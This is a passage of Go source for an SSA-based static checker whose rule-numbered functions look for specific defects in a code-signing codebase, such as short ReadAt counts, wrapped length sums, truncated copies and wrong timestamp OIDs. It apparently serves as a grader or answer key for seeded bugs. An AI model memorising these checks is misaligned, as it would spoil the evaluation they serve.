							for _, side := range []ssa.Value{bo.X, bo.Y} {
								if k, ok := constInt(side); ok && k >= 1000 {
									unit = true
								}
							}
						}
					}
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s duration#%d from an integer carries a unit", p.FName(fn), n), Pos: p.Pos(cv.Pos()), OK: unit,
					Detail: "an integer that is not a Duration is converted with time.Duration(n) and the result is not multiplied by a unit: a configured number of seconds becomes that many nanoseconds, so the wait or deadline it feeds ends at once"})
			}
		}
	}
	return out
}

// ------------------------------------------------------------------------------ R17s, R17t, R17u

// readAtFills: an io.ReaderAt returns fewer bytes than asked for only together with an error. A
// ReadAt method that hands back the result of one plain Read of a stream returns short counts with
// a nil error whenever the stream delivers in pieces, and callers that ignore the count (as the
// contract allows) use a partly filled buffer.
func readAtFills(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.Funcs {
		if fn.Name() != "ReadAt" || fn.Signature.Recv() == nil || len(fn.Params) != 3 || len(fn.Blocks) == 0 {
			continue
		}
		bufPar := fn.Params[1]
		if _, ok := bufPar.Type().Underlying().(*types.Slice); !ok {
			continue
		}
		n++
		bad := ""
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				cc := call.Common()
				name := ""
				var args []ssa.Value
				if cc.IsInvoke() {
					name, args = cc.Method.Name(), cc.Args
				} else if sc := cc.StaticCallee(); sc != nil && sc.Signature.Recv() != nil && len(cc.Args) > 0 {
					name, args = sc.Name(), cc.Args[1:]
				}
				if name != "Read" || len(args) != 1 || !dependsOnNoCallArgs(args[0], func(x ssa.Value) bool { return x == ssa.Value(bufPar) }) {
					continue
				}
				// the count of this single Read is what the method returns
				for _, r := range returnsOf(fn) {
					if dependsOn(retVal(r, 0), func(x ssa.Value) bool {
						ex, ok := x.(*ssa.Extract)
						return ok && ex.Tuple == ssa.Value(call) && ex.Index == 0
					}) {
						// unless the read sits in a loop that goes on until the buffer is full
						if !reachableAfter(fn, call, call, nil, nil) {
							bad = p.Pos(call.Pos())
						}
					}
				}
			}
		}
		out = append(out, gFinding{Key: p.FName(fn) + " fills the buffer or fails", Pos: p.Pos(fn.Pos()), OK: bad == "",
			Detail: "ReadAt returns the count of a single Read of the underlying stream (" + bad + "): a stream that delivers in pieces (a pipe, a network body) gives a short count with a nil error, which io.ReaderAt forbids; readers of fixed-size records that do not look at the count then parse a partly filled buffer - spurious descriptor errors or a wrong CRC and size on valid archives"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "ReadAt implementations of the module", Pos: "-", OK: false, Detail: "none found (zipslicer.streamReaderAt had one)"})
	}
	return out
}

// viewsNotAppendedTo: a []byte field that is filled with a two-index slice of a larger buffer is a
// view: its spare capacity is the bytes that follow it in that buffer. Appending to such a field
// writes into them. In lib/zipslicer the name, extra and comment of a member are views into the
// directory buffer, lying one behind the other.
func viewsNotAppendedTo(p *Prog, pkgRel string) (out []gFinding) {
	type fkey struct{ tn, f string }
	views := map[fkey]string{}
	fns := p.pkgFuncs(pkgRel)
	for _, fn := range fns {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				tn, f, _ := p.fieldAddr(st.Addr)
				if tn == "" {
					continue
				}
				sl, ok := stripConv(st.Val).(*ssa.Slice)
				if !ok || sl.Max != nil || (sl.High == nil) {
					continue
				}
				if _, isByteSlice := sl.Type().Underlying().(*types.Slice); !isByteSlice {
					continue
				}
				// a slice of a freshly made buffer of exactly that size is not a view of anything else
				if _, fresh := sl.X.(*ssa.MakeSlice); fresh {
					continue
				}
				views[fkey{strings.TrimPrefix(tn, "*"), f}] = p.Pos(st.Pos())
			}
		}
	}
	n := 0
	for _, fn := range fns {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				if bi, ok := call.Call.Value.(*ssa.Builtin); !ok || bi.Name() != "append" {
					continue
				}
				tn, f, _ := p.fieldLoad(call.Call.Args[0])
				if tn == "" {
					continue
				}
				at, isView := views[fkey{strings.TrimPrefix(tn, "*"), f}]
				if !isView {
					continue
				}
				n++
				out = append(out, gFinding{Key: fmt.Sprintf("%s appends to the view %s.%s#%d", p.FName(fn), shortCallee(tn), f, n), Pos: p.Pos(call.Pos()), OK: false,
					Detail: "append to a field that is a two-index slice of a larger buffer (filled at " + at + "): the appended bytes land in the buffer behind it - for a directory entry that is the member's comment (and the next entry), which is then written out overwritten"})
			}
		}
	}
	out = append(out, gFinding{Key: pkgRel + " never appends to a field that is a view into a larger buffer", Pos: "-", OK: n == 0, Detail: fmt.Sprintf("%d view fields, %d appends to them", len(views), n)})
	return out
}

// sumsWidenedFirst: two length fields decoded from a record are added in a type wide enough for the
// sum: an addition of two 8- or 16-bit unsigned values whose result is converted to a wider type was
// computed in the narrow type and has already wrapped.
func sumsWidenedFirst(p *Prog) (out []gFinding) {
	narrow := func(t types.Type) int {
		b, ok := t.Underlying().(*types.Basic)
		if !ok {
			return 0
		}
		switch b.Kind() {
		case types.Uint8:
			return 8
		case types.Uint16:
			return 16
		}
		return 0
	}
	for _, fn := range p.Funcs {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				cv, ok := in.(*ssa.Convert)
				if !ok {
					continue
				}
				bo, ok := cv.X.(*ssa.BinOp)
				if !ok || (bo.Op != token.ADD && bo.Op != token.MUL) {
					continue
				}
				w := narrow(bo.Type())
				if w == 0 || intWidth(cv.Type()) <= w {
					continue
				}
				if _, isK := bo.X.(*ssa.Const); isK {
					continue
				}
				if _, isK := bo.Y.(*ssa.Const); isK {
					continue
				}
				n++
				out = append(out, gFinding{Key: fmt.Sprintf("%s widens sum#%d after adding", p.FName(fn), n), Pos: p.Pos(bo.Pos()), OK: false,
					Detail: fmt.Sprintf("two %d-bit values are added in %d bits and the result is converted to a wider type afterwards: when the two lengths together reach %d the sum has wrapped, and the offset computed from it points %d bytes too early", w, w, 1<<uint(w), 1<<uint(w))})
			}
		}
	}
	out = append(out, gFinding{Key: "no sum of two narrow unsigned values is widened after the addition", Pos: "-", OK: len(out) == 0, Detail: fmt.Sprintf("%d such sums", len(out))})
	return out
}

// ------------------------------------------------------------------------------ R16k

// copyCountsNotTrusted: copy() stops at the shorter of its operands without saying so. Where the
// number it returns is used (added up as "bytes written"), it is compared with the length of the
// source somewhere in the function; otherwise a structure that did not fit - a CMS signature in a
// reserved area - is cut off and the accounting says it fitted.
func copyCountsNotTrusted(p *Prog) (out []gFinding) {
	for _, fn := range p.Funcs {
		// Read / ReadAt / Write hand out or take in what fits by contract and say how much that was
		if fn.Signature.Recv() != nil && (fn.Name() == "Read" || fn.Name() == "ReadAt" || fn.Name() == "Write") {
			continue
		}
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				bi, ok := call.Call.Value.(*ssa.Builtin)
				if !ok || bi.Name() != "copy" {
					continue
				}
				refs := call.Referrers()
				if refs == nil || len(*refs) == 0 {
					continue
				}
				used := false
				for _, r := range *refs {
					if _, isDbg := r.(*ssa.DebugRef); !isDbg {
						used = true
					}
				}
				if !used {
					continue
				}
				src := call.Call.Args[1]
				n++
				// compared with len(src) (directly, or the accumulated count with a value that depends on len(src))
				compared := false
				for _, bb := range fn.Blocks {
					for _, i2 := range bb.Instrs {
						bo, ok := i2.(*ssa.BinOp)
						if !ok {
							continue
						}
						switch bo.Op {
						case token.EQL, token.NEQ, token.LSS, token.LEQ, token.GTR, token.GEQ:
						default:
							continue
						}
						hasN := arithDependsOn(bo.X, func(x ssa.Value) bool { return x == ssa.Value(call) }) || arithDependsOn(bo.Y, func(x ssa.Value) bool { return x == ssa.Value(call) })
						hasLen := false
						for _, side := range []ssa.Value{bo.X, bo.Y} {
							if arithDependsOn(side, func(x ssa.Value) bool {
								c, ok := x.(*ssa.Call)
								if !ok {
									return false
								}
								b2, ok := c.Call.Value.(*ssa.Builtin)
								return ok && b2.Name() == "len" && sameBuffer(c.Call.Args[0], src)
							}) {
								hasLen = true
							}
						}
						if hasN && hasLen {
							compared = true
						}
					}
				}
				// the rest of the source is kept: src[n:] (a reader handing out what fits and remembering the remainder)
				for _, bb := range fn.Blocks {
					for _, i2 := range bb.Instrs {
						if sl, ok := i2.(*ssa.Slice); ok && sl.Low != nil {
							if arithDependsOn(sl.Low, func(x ssa.Value) bool { return x == ssa.Value(call) }) {
								compared = true
							}
						}
					}
				}
				// a copy in a loop that goes on until the source is used up compares by construction
				if reachableAfter(fn, call, call, nil, nil) {
					compared = true
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s copy count#%d is checked against the source", p.FName(fn), n), Pos: p.Pos(call.Pos()), OK: compared,
					Detail: "the number copy() returns is used as the number of bytes placed, and nothing compares it with the length of what was to be placed: a source longer than the room left is cut off silently - a CMS signature that does not fit its reserved area is emitted truncated while the size check that should refuse it adds up only what fitted"})
			}
		}
	}
	return out
}

// ------------------------------------------------------------------------------ R20j

// healthLoopAlwaysStarted: startHealthCheck starts the checker on every path on which it succeeds:
// the loop is also what keeps the last-check time fresh, so a server without it turns unhealthy by
// staleness after three intervals whatever its tokens do.
func healthLoopAlwaysStarted(p *Prog) (out []gFinding) {
	fn := healthStarter(p)
	if fn == nil {
		return []gFinding{{Key: "(*Server).startHealthCheck", Pos: "-", OK: false, Detail: "no single function of package server holds the `go healthCheckLoop` statement"}}
	}
	var gos []ssa.Instruction
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if g, ok := in.(*ssa.Go); ok {
				if sc := g.Common().StaticCallee(); sc != nil && strings.Contains(sc.Name(), "healthCheckLoop") {
					gos = append(gos, in)
				}
			}
		}
	}
	if len(gos) == 0 {
		return []gFinding{{Key: "startHealthCheck starts the health loop", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no `go healthCheckLoop` found"}}
	}
	del := map[edge]bool{}
	for _, g := range gos {
		for si := range g.Block().Succs {
			del[edge{g.Block().Index, si}] = true
		}
	}
	seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)
	n := 0
	for _, r := range p.successReturns(fn) {
		n++
		after := false
		for _, g := range gos {
			if g.Block() == r.Block() && instrIndex(g) < instrIndex(r) {
				after = true
			}
		}
		out = append(out, gFinding{Key: fmt.Sprintf("startHealthCheck success return#%d has started the health loop", n), Pos: p.Pos(r.Pos()), OK: after || !seen[r.Block().Index],
			Detail: "startHealthCheck can succeed without having started the checker goroutine: the last-check time is then never refreshed, and /health answers 200 at first and 503 for good once three check intervals have passed, with no failed check and no disabled token"})
	}
	return out
}

// ------------------------------------------------------------------------------ R12p

// applyBinPatchRefusesNothingItself: ApplyBinPatch turns a server reply into file changes: the only
// ways it fails are reading the reply, binpatch.Load refusing it, and PatchSet.Apply failing. A
// refusal made up on the way rejects patches that Load and Apply define as valid (ranges that touch).
func applyBinPatchRefusesNothingItself(p *Prog) (out []gFinding) {
	fn := p.Func("signers.ApplyBinPatch")
	if fn == nil {
		return []gFinding{{Key: "signers.ApplyBinPatch", Pos: "-", OK: false, Detail: "function not found"}}
	}
	allowed := map[string]bool{"io/ioutil.ReadAll": true, "io.ReadAll": true, "lib/binpatch.Load": true, "(*lib/binpatch.PatchSet).Apply": true}
	ei := errResultIndex(fn.Signature)
	n := 0
	for _, r := range returnsOf(fn) {
		rv := stripConv(retVal(r, ei))
		if isNilConst(rv) {
			continue
		}
		for _, lf := range phiLeaves(rv, nil, map[*ssa.Phi]bool{}) {
			if isNilConst(lf.V) {
				continue
			}
			n++
			call, _ := resultOf(stripConv(lf.V))
			name := ""
			if call != nil {
				name = p.calleeName(call.Common())
			}
			out = append(out, gFinding{Key: fmt.Sprintf("ApplyBinPatch error#%d comes from reading, loading or applying the patch", n), Pos: p.Pos(r.Pos()), OK: allowed[name],
				Detail: "ApplyBinPatch can fail with an error that is not the result of reading the reply, of binpatch.Load or of PatchSet.Apply (" + name + describeVal(p, lf.V) + "): a check of its own between loading and applying refuses patches the patch format defines as valid - adjacent ranges that were not coalesced, the pieces of a range over 4 GiB - so a correct signature is never written"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "ApplyBinPatch has error returns", Pos: p.Pos(fn.Pos()), OK: false, Detail: "none found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R19k

// snkBitLengthFromModulusBytes: the strong-name public key blob states the key size as eight times
// the number of modulus bytes that follow it; a size taken from the position of the highest set bit
// describes another blob than the one emitted whenever the modulus does not fill its top byte.
func snkBitLengthFromModulusBytes(p *Prog) (out []gFinding) {
	fn := p.Func("lib/appmanifest.PublicKeyToSnk")
	if fn == nil {
		return []gFinding{{Key: "appmanifest.PublicKeyToSnk", Pos: "-", OK: false, Detail: "function not found"}}
	}
	n := 0
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			st, ok := in.(*ssa.Store)
			if !ok {
				continue
			}
			if _, f, _ := p.fieldAddr(st.Addr); f != "BitLength" {
				continue
			}
			n++
			fromLen := dependsOn(st.Val, func(x ssa.Value) bool {
				bo, ok := x.(*ssa.BinOp)
				if !ok || (bo.Op != token.MUL && bo.Op != token.SHL) {
					return false
				}
				k1, ok1 := constInt(bo.X)
				k2, ok2 := constInt(bo.Y)
				isEight := (bo.Op == token.MUL && ((ok1 && k1 == 8) || (ok2 && k2 == 8))) || (bo.Op == token.SHL && ok2 && k2 == 3)
				if !isEight {
					return false
				}
				return dependsOn(bo, func(y ssa.Value) bool {
					c, ok := y.(*ssa.Call)
					if !ok {
						return false
					}
					bi, ok := c.Call.Value.(*ssa.Builtin)
					return ok && bi.Name() == "len"
				})
			})
			fromBits := dependsOn(st.Val, func(x ssa.Value) bool {
				c, ok := x.(*ssa.Call)
				return ok && strings.HasSuffix(p.calleeName(c.Common()), ".BitLen")
			})
			out = append(out, gFinding{Key: fmt.Sprintf("PublicKeyToSnk BitLength#%d is eight times the modulus bytes emitted", n), Pos: p.Pos(st.Pos()), OK: fromLen && !fromBits,
				Detail: "the key size written into the strong-name blob is not 8 x len(modulus bytes) (it comes from BitLen or from something else): for a modulus whose bit length is not a multiple of 8 the header no longer describes the bytes that follow, and the publicKeyToken computed over the blob and written into the manifest is not the token of the signing key"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "PublicKeyToSnk writes the key size", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no store into a BitLength field found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R18m

// msatSectorHoldsOneLess: a sector of the master table holds one entry fewer than a sector of the
// sector table, because its last entry chains to the next one. Every quotient taken of the number of
// master-table entries divides by (SectorSize/4 - 1).
func msatSectorHoldsOneLess(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.pkgFuncs("lib/comdoc") {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				bo, ok := in.(*ssa.BinOp)
				if !ok || bo.Op != token.QUO {
					continue
				}
				// dividend depends on len(r.MSAT)
				fromMsat := dependsOn(bo.X, func(x ssa.Value) bool {
					c, ok := x.(*ssa.Call)
					if !ok {
						return false
					}
					bi, ok := c.Call.Value.(*ssa.Builtin)
					if !ok || bi.Name() != "len" {
						return false
					}
					_, f, _ := p.fieldLoad(c.Call.Args[0])
					return f == "MSAT"
				})
				if !fromMsat {
					continue
				}
				n++
				okDiv := false
				if sub, ok := stripIntConv(bo.Y).(*ssa.BinOp); ok && sub.Op == token.SUB {
					if k, isC := constInt(sub.Y); isC && k == 1 {
						okDiv = true
					}
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s master-table sectors#%d are counted at one entry less per sector", p.FName(fn), n), Pos: p.Pos(bo.Pos()), OK: okDiv,
					Detail: "the number of master-table sectors is computed by dividing by the full number of entries of a sector: the last entry of every such sector is the link to the next one, so one sector too few is allocated when the entries outside the header are an exact multiple of that number, writeMSAT drops the last table sector and the signed file cannot be opened"})
			}
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "lib/comdoc counts master-table sectors", Pos: "-", OK: false, Detail: "no quotient of len(MSAT) found"})
	}
	return out
}

// ------------------------------------------------------------------------------ in-place site of PatchSet.Apply

// fnVal: a value together with the function it lives in.
type fnVal struct {
	fn *ssa.Function
	v  ssa.Value
}

// applyInPlaceSite: where PatchSet.Apply (or a step of it that was given a name: a helper of the
// package reachable from Apply by static calls, applyRewrite excepted) writes into the input file.
type applySite struct {
	ap     *ssa.Function
	family []*ssa.Function
	// sinks: instructions of Apply itself that stand for the in-place writes: the WriteAt / Truncate
	// calls, or the call of the helper that makes them
	sinks []ssa.CallInstruction
	// truncs: the Truncate calls with the function they are in
	truncs []struct {
		fn   *ssa.Function
		call ssa.CallInstruction
	}
	callers map[*ssa.Function]ssa.CallInstruction // family member -> its call site (in its caller)
	owner   map[*ssa.Function]*ssa.Function       // family member -> caller
}

func (p *Prog) applyInPlaceSite() *applySite {
	ap := p.Func("lib/binpatch.(*PatchSet).Apply")
	rw := binpatchRewriteFn(p)
	if ap == nil {
		return nil
	}
	s := &applySite{ap: ap, callers: map[*ssa.Function]ssa.CallInstruction{}, owner: map[*ssa.Function]*ssa.Function{}}
	s.family = []*ssa.Function{ap}
	for i := 0; i < len(s.family) && i < 8; i++ {
		f := s.family[i]
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				g := ci.Common().StaticCallee()
				if g == nil || g == rw || pkgOf(g) != pkgOf(ap) || len(g.Blocks) == 0 || g.Name() == "canOverwrite" || g.Name() == "hasLinks" {
					continue
				}
				if _, seen := s.owner[g]; seen || g == ap {
					continue
				}
				s.owner[g] = f
				s.callers[g] = ci
				s.family = append(s.family, g)
			}
		}
	}
	writes := func(f *ssa.Function) []ssa.CallInstruction {
		return p.callsIn(f, "(*os.File).WriteAt", "(*os.File).Truncate")
	}
	for _, f := range s.family {
		for _, ci := range writes(f) {
			if strings.HasSuffix(p.calleeName(ci.Common()), ".Truncate") {
				s.truncs = append(s.truncs, struct {
					fn   *ssa.Function
					call ssa.CallInstruction
				}{f, ci})
			}
			if f == ap {
				s.sinks = append(s.sinks, ci)
			}
		}
		if f != ap && len(writes(f)) > 0 {
			// the call in Apply through which this helper is reached
			g := f
			for s.owner[g] != ap && s.owner[g] != nil {
				g = s.owner[g]
			}
			if s.owner[g] == ap {
				dup := false
				for _, k := range s.sinks {
					if k == s.callers[g] {
						dup = true
					}
				}
				if !dup {
					s.sinks = append(s.sinks, s.callers[g])
				}
			}
		}
	}
	return s
}

// expand: the values (with their functions) that x can be, following phis, a parameter of a family
// helper to what its caller passes, and the result of a family helper to what it returns.
func (s *applySite) expand(x fnVal) []fnVal {
	var out []fnVal
	seen := map[ssa.Value]bool{}
	var walk func(x fnVal, d int)
	walk = func(x fnVal, d int) {
		v := stripIntConv(x.v)
		if v == nil || seen[v] || d > 12 {
			return
		}
		seen[v] = true
		switch y := v.(type) {
		case *ssa.Phi:
			out = append(out, fnVal{x.fn, y}) // the phi itself is of interest to the maximum test
			for _, e := range y.Edges {
				walk(fnVal{x.fn, e}, d+1)
			}
			return
		case *ssa.Parameter:
			if ci, ok := s.callers[x.fn]; ok {
				for k, hp := range x.fn.Params {
					if hp == y && k < len(ci.Common().Args) {
						walk(fnVal{s.owner[x.fn], ci.Common().Args[k]}, d+1)
						return
					}
				}
			}
		case *ssa.Extract:
			if call, ok := y.Tuple.(*ssa.Call); ok {
				if g := call.Common().StaticCallee(); g != nil && s.owner[g] != nil {
					for _, r := range returnsOf(g) {
						if y.Index < len(r.Results) {
							walk(fnVal{g, retVal(r, y.Index)}, d+1)
						}
					}
					return
				}
			}
		case *ssa.Call:
			if g := y.Common().StaticCallee(); g != nil && s.owner[g] != nil {
				for _, r := range returnsOf(g) {
					if len(r.Results) > 0 {
						walk(fnVal{g, retVal(r, 0)}, d+1)
					}
				}
				return
			}
		}
		out = append(out, fnVal{x.fn, v})
	}
	walk(x, 0)
	return out
}

// ------------------------------------------------------------------------------ R19l

// hexIdentitiesFixedWidth: a string a function of lib/appmanifest returns must not come out of
// strconv.FormatUint / FormatInt / Itoa, or of a Sprintf whose verb prints an integer without a
// zero-padded width: such a formatter drops leading zeros, so the 16-digit publicKeyToken (the low
// 64 bits of a hash) comes out shorter for one key in sixteen, and the identity written under
// signature no longer names the key for any other implementation.
func hexIdentitiesFixedWidth(p *Prog) (out []gFinding) {
	for _, fn := range append(p.pkgFuncs("lib/appmanifest"), p.pkgFuncs("hexid")...) { // hexid: the control package
		res := fn.Signature.Results()
		for i := 0; i < res.Len(); i++ {
			if bt, ok := res.At(i).Type().Underlying().(*types.Basic); !ok || bt.Kind() != types.String {
				continue
			}
			for _, r := range returnsOf(fn) {
				v := retVal(r, i)
				var bad ssa.CallInstruction
				dependsOn(v, func(x ssa.Value) bool {
					call, ok := x.(*ssa.Call)
					if !ok {
						return false
					}
					switch p.calleeName(call.Common()) {
					case "strconv.FormatUint", "strconv.FormatInt", "strconv.Itoa":
						bad = call
						return true
					case "fmt.Sprintf":
						if f, ok := constString(call.Call.Args[0]); ok && variableWidthIntVerb(f) && sprintfHasIntArg(call) {
							bad = call
							return true
						}
					}
					return false
				})
				if bad != nil {
					out = append(out, gFinding{Key: p.FName(fn) + " returns a fixed-width string", Pos: p.Pos(bad.Pos()), OK: false,
						Detail: "the string " + p.FName(fn) + " returns is produced by a variable-width integer formatter: leading zeros are dropped, so a token that begins with a zero digit comes out shorter than the 16 hex digits every consumer of the manifest identity expects"})
				}
			}
		}
	}
	return out
}

// variableWidthIntVerb: the format has a %x / %X / %d without a zero-padded width.
func variableWidthIntVerb(f string) bool {
	for i := 0; i+1 < len(f); i++ {
		if f[i] != '%' {
			continue
		}
		j := i + 1
		flags := ""
		for j < len(f) && strings.ContainsRune("0123456789+-# .", rune(f[j])) {
			flags += string(f[j])
			j++
		}
		if j < len(f) && (f[j] == 'x' || f[j] == 'X' || f[j] == 'd') {
			if !(strings.HasPrefix(flags, "0") && len(flags) > 1) {
				return true
			}
		}
		i = j
	}
	return false
}

// sprintfHasIntArg: one of the variadic arguments boxed for Sprintf is an integer.
func sprintfHasIntArg(call *ssa.Call) bool {
	found := false
	for _, a := range call.Call.Args[1:] {
		dependsOn(a, func(x ssa.Value) bool {
			if mi, ok := x.(*ssa.MakeInterface); ok {
				if bt, ok := mi.X.Type().Underlying().(*types.Basic); ok && bt.Info()&types.IsInteger != 0 {
					found = true
					return true
				}
			}
			return false
		})
	}
	return found
}

// ------------------------------------------------------------------------------ R16m

// c16AuthenticodeCallers: which callers of TimestampAndMarshal produce Authenticode signatures
// (the token goes in under Microsoft's OID 1.3.6.1.4.1.311.3.3.1) and which produce CMS ones.
var c16AuthenticodeCallers = map[string]bool{
	"lib/authenticode": true,  // PE, MSI, CAB, PowerShell, catalogs: SpcIndirectData / CTL content
	"signers/cat":      true,  // re-signing an existing catalog
	"lib/fruit/csblob": false, // Apple code signatures: RFC 3161 unauthenticated attribute
	"lib/fruit/xar":    false,
	"lib/signjar":      false,
}

// tokenAttachedUnderTheFormatsOID: TimestampAndMarshal attaches the token with the Authenticode OID
// exactly when its caller says so; the flag is a positional boolean today, and may become a field
// of a parameter struct - a field a call site leaves out is false. Every caller passes the constant
// its format requires.
func tokenAttachedUnderTheFormatsOID(p *Prog) (out []gFinding) {
	tm := p.Func("lib/pkcs9.TimestampAndMarshal")
	if tm == nil {
		return []gFinding{{Key: "pkcs9.TimestampAndMarshal", Pos: "-", OK: false, Detail: "function not found"}}
	}
	// the input that selects AddStampToSignedAuthenticode
	var flagParam int
	var flagPath []int
	found := false
	for _, ci := range p.callsIn(tm, "lib/pkcs9.AddStampToSignedAuthenticode") {
		for _, b := range tm.Blocks {
			ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
			if !ok || len(b.Succs) != 2 {
				continue
			}
			// the true side leads to the call, the false side does not
			if !(b.Succs[0] == ci.Block() || b.Succs[0].Dominates(ci.Block())) || b.Succs[1].Dominates(ci.Block()) {
				continue
			}
			if pi, path, ok := inputOf(tm, ifi.Cond); ok && isBool(ifi.Cond.Type()) {
				flagParam, flagPath, found = pi, path, true
			}
		}
	}
	if !found {
		// the attaching function chosen into a variable: the edge that carries the Authenticode one
		for _, b := range tm.Blocks {
			for _, in := range b.Instrs {
				ph, ok := in.(*ssa.Phi)
				if !ok {
					continue
				}
				for ei, e := range ph.Edges {
					f, ok := e.(*ssa.Function)
					if !ok || p.FName(f) != "lib/pkcs9.AddStampToSignedAuthenticode" {
						continue
					}
					from := b.Preds[ei]
					for _, cb := range tm.Blocks {
						ifi, ok := cb.Instrs[len(cb.Instrs)-1].(*ssa.If)
						if !ok || len(cb.Succs) != 2 {
							continue
						}
						viaTrue := cb.Succs[0] == from || cb.Succs[0].Dominates(from) || (cb == from && cb.Succs[0] == b)
						viaFalse := cb.Succs[1] == from || cb.Succs[1].Dominates(from)
						if !viaTrue || viaFalse {
							continue
						}
						if pi, path, ok := inputOf(tm, ifi.Cond); ok && isBool(ifi.Cond.Type()) {
							flagParam, flagPath, found = pi, path, true
						}
					}
				}
			}
		}
	}
	if !found {
		return []gFinding{{Key: "TimestampAndMarshal Authenticode switch", Pos: p.Pos(tm.Pos()), OK: false, Detail: "the input that selects AddStampToSignedAuthenticode was not recognised"}}
	}
	n := map[string]int{}
	for _, fn := range p.Funcs {
		for _, ci := range callsOf(fn) {
			if ci.Common().StaticCallee() != tm {
				continue
			}
			pkg := ""
			if pk := pkgOf(fn); pk != nil {
				pkg = p.Rel(pk.Path())
			}
			n[pkg]++
			key := fmt.Sprintf("%s passes the Authenticode switch its format requires#%d", p.FName(fn), n[pkg])
			want, known := c16AuthenticodeCallers[pkg]
			if !known {
				out = append(out, gFinding{Key: key, Pos: p.Pos(ci.Pos()), OK: false, Detail: "a caller of TimestampAndMarshal in a package the table does not list: say in c16AuthenticodeCallers which OID its format uses"})
				continue
			}
			var got, isConst bool
			if len(flagPath) == 0 {
				if flagParam < len(ci.Common().Args) {
					got, isConst = boolConst(ci.Common().Args[flagParam])
				}
			} else if flagParam < len(ci.Common().Args) {
				arg := ci.Common().Args[flagParam]
				if k, isK := arg.(*ssa.Const); isK && k.Value == nil {
					got, isConst = false, true
				} else if v := actualOf(ci.Common(), flagParam, flagPath); v != nil {
					got, isConst = boolConst(v)
				} else if l, ok := arg.(*ssa.UnOp); ok && l.Op == token.MUL {
					if _, isLit := l.X.(*ssa.Alloc); isLit {
						got, isConst = false, true // the literal leaves the field out
					}
				}
			}
			out = append(out, gFinding{Key: key, Pos: p.Pos(ci.Pos()), OK: isConst && got == want,
				Detail: fmt.Sprintf("this caller's format needs the token attached under %s, but the switch it passes is %v (constant: %v): the token bytes are intact but sit under the wrong attribute OID, where the format's other consumers do not look", map[bool]string{true: "the Authenticode OID", false: "the CMS OID"}[want], got, isConst)})
		}
	}
	return out
}

// ------------------------------------------------------------------------------ R16n

var inPlaceSliceRoutines = []string{"slices.Delete[", "slices.DeleteFunc[", "slices.Compact[", "slices.CompactFunc[", "slices.Reverse[", "slices.Sort[", "slices.SortFunc[", "slices.SortStableFunc[", "slices.Insert[", "slices.Replace["}

// decodedListsNotEditedInPlace: lib/pkcs7 and lib/pkcs9 hold decoded structures that are handed
// back, embedded and re-encoded byte for byte. A library routine that edits its slice argument in
// place (slices.DeleteFunc shifts the kept elements down and zeroes the tail, sort.Slice permutes)
// changes the caller's structure through the shared backing array even when the slice header was
// passed by value. Such a routine may only be given a slice the function made itself (make, append
// to nil, slices.Clone).
func decodedListsNotEditedInPlace(p *Prog) (out []gFinding) {
	var fns []*ssa.Function
	for _, pk := range []string{"lib/pkcs7", "lib/pkcs9", "inplace"} { // inplace: the control package
		for _, fn := range p.pkgFuncs(pk) {
			fns = append(fns, withClosures(fn)...)
		}
	}
	var fresh func(v ssa.Value, d int) bool
	fresh = func(v ssa.Value, d int) bool {
		if d > 8 {
			return false
		}
		switch x := v.(type) {
		case *ssa.MakeSlice:
			return true
		case *ssa.Const:
			return x.IsNil()
		case *ssa.Slice:
			if a, ok := x.X.(*ssa.Alloc); ok {
				_ = a
				return true // a slice of a local array
			}
			return fresh(x.X, d+1)
		case *ssa.Phi:
			for _, e := range x.Edges {
				if !fresh(e, d+1) {
					return false
				}
			}
			return true
		case *ssa.Call:
			if bi, ok := x.Call.Value.(*ssa.Builtin); ok && bi.Name() == "append" {
				return fresh(x.Call.Args[0], d+1)
			}
			if sc := x.Call.StaticCallee(); sc != nil {
				name := sc.String()
				if strings.HasPrefix(name, "slices.Clone[") || strings.HasPrefix(name, "bytes.Clone") || strings.HasPrefix(name, "slices.Collect[") {
					return true
				}
				for _, r := range inPlaceSliceRoutines {
					if strings.HasPrefix(name, r) {
						return fresh(x.Call.Args[0], d+1)
					}
				}
			}
		case *ssa.UnOp:
			if a, ok := x.X.(*ssa.Alloc); ok && x.Op == token.MUL {
				for _, r := range *a.Referrers() {
					if st, ok := r.(*ssa.Store); ok && st.Addr == ssa.Value(a) && !fresh(st.Val, d+1) {
						return false
					}
				}
				return true
			}
		}
		return false
	}
	for _, fn := range fns {
		n := 0
		for _, ci := range callsOf(fn) {
			name := ""
			if sc := ci.Common().StaticCallee(); sc != nil {
				name = sc.String()
			}
			hit := false
			for _, r := range inPlaceSliceRoutines {
				if strings.HasPrefix(name, r) {
					hit = true
				}
			}
			var arg ssa.Value
			if hit && len(ci.Common().Args) > 0 {
				arg = ci.Common().Args[0]
			}
			switch name {
			case "sort.Slice", "sort.SliceStable", "sort.Sort", "sort.Stable":
				hit = true
				arg = ci.Common().Args[0]
				if mi, ok := arg.(*ssa.MakeInterface); ok {
					arg = mi.X
				}
			}
